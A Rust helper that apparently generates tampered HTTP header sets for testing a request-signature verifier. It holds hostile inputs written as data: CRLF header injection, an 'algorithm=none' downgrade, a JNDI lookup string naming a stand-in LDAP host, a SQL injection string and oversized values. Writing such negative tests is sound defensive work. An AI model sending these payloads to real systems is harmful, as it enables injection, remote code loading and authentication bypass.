//! Headers that try to be read as other ones.

use flows::events::{CLIENT_ID, SENT_AT_MS};
use serde_json::{Value, json};

/// The three headers, some of them tampered with. `genuine` is the right signature, `stranger` another's.
pub(crate) fn smuggled(genuine: &str, stranger: &str) -> Vec<(String, Value)> {
    let good = json!({ "client-id": CLIENT_ID, "request-time": SENT_AT_MS, "signature": genuine });
    let mut all = Vec::new();
    for (name, right) in [
        ("client-id", CLIENT_ID),
        ("request-time", SENT_AT_MS),
        ("signature", genuine),
    ] {
        for (what, value) in odd_values(right) {
            let mut headers = good.clone();
            headers[name] = value.into();
            all.push((format!("{name}: {what}"), headers));
        }
        let mut missing = good.clone();
        missing.as_object_mut().unwrap().remove(name);
        all.push((format!("{name} is missing"), missing.clone()));
        missing[name] = Value::Null;
        all.push((format!("{name} is null"), missing.clone()));
        missing.as_object_mut().unwrap().remove(name);
        for other in [
            format!("{name} "),
            format!(" {name}"),
            format!("{name}\0"),
            format!("x-{name}"),
            name.replace('-', "_") + "_",
            format!("{name}:"),
        ] {
            let mut renamed = missing.clone();
            renamed[&other] = right.into();
            all.push((format!("{name} under the name {other:?}"), renamed));
        }
        // Twice, under names that are one name to HTTP: neither is taken.
        let mut twice = good.clone();
        twice[name.to_uppercase()] = right.into();
        all.push((format!("{name} twice, the second in capitals"), twice));
    }
    let plain = genuine.rsplit('=').next().unwrap();
    let foreign = stranger.rsplit('=').next().unwrap();
    let none = plain.replace("%3D", "");
    let signatures = [
        format!("{genuine},{genuine}"),
        format!("{stranger},{genuine}"),
        format!("{genuine},signature={foreign}"),
        format!("signature={foreign},{genuine}"),
        format!("algorithm=none,keyVersion=1,signature={plain}"),
        format!("algorithm=RSA256,algorithm=none,signature={plain}"),
        format!("algorithm=rsa256,signature={plain}"),
        format!("algorithm=HS256,signature={plain}"),
        format!("algorithm=RSA256;keyVersion=1;signature={plain}"),
        format!("algorithm=RSA256 keyVersion=1 signature={plain}"),
        format!("Algorithm=RSA256,Signature={plain}"),
        format!("algorithm=RSA256,signature={plain},"),
        format!("algorithm=RSA256,signature=\"{plain}\""),
        format!("algorithm=RSA256,signature={none}"),
        format!("algorithm=RSA256,signature={}", plain.replace('%', "%25")),
        format!("algorithm=RSA256,signature={plain}AAAA"),
        format!("algorithm=RSA256,signature=AAAA{plain}"),
        format!("algorithm=RSA256,signature={}", plain.to_lowercase()),
        format!("algorithm=RSA256,signature={foreign}"),
        format!("keyVersion=1,signature={plain}"),
        "algorithm=RSA256,keyVersion=1".to_owned(),
        format!("algorithm=RSA256,keyVersion=1,keyVersion=1,signature={plain}"),
        format!("algorithm=RSA256,signature={plain},signature="),
        ",".repeat(4000),
        "=,".repeat(2000),
        format!("algorithm=RSA256,{}signature={plain}", "x=y,".repeat(2000)),
        format!("algorithm=RSA256,signature={}", "%41".repeat(1300)),
    ];
    for signature in signatures {
        let mut headers = good.clone();
        let what = format!(
            "signature: {}",
            signature.chars().take(60).collect::<String>()
        );
        headers["signature"] = signature.into();
        all.push((what, headers));
    }
    all
}

/// A right value made wrong.
fn odd_values(right: &str) -> Vec<(&'static str, String)> {
    vec![
        ("empty", String::new()),
        ("a blank", " ".to_owned()),
        ("twice, joined by a comma", format!("{right},{right}")),
        (
            "twice, joined by a comma and a blank",
            format!("{right}, {right}"),
        ),
        ("with a comma behind", format!("{right},")),
        ("with a line feed behind", format!("{right}\n")),
        (
            "with CR LF and another header behind",
            format!("{right}\r\nX-Other: 1"),
        ),
        ("folded", format!("{right}\r\n {right}")),
        ("with a NUL behind", format!("{right}\0")),
        ("with DEL behind", format!("{right}\u{7f}")),
        ("in quotes", format!("\"{right}\"")),
        ("with a letter that looks alike", format!("{right}\u{430}")),
        ("with é", format!("{right}é")),
        ("with a blank that does not break", format!("{right}\u{a0}")),
        ("with a mark of direction", format!("\u{202e}{right}")),
        ("with a point behind", format!("{right}.")),
        ("with a brace behind", format!("{right}{{")),
        ("of 100,000 characters", "A".repeat(100_000)),
        ("of 5,000 digits", "1".repeat(5000)),
        (
            "percent-encoded",
            format!("%{:02x}{}", right.as_bytes()[0], &right[1..]),
        ),
        ("a template", "${jndi:ldap://x.example/}".to_owned()),
        ("a query", "' OR '1'='1".to_owned()),
    ]
}
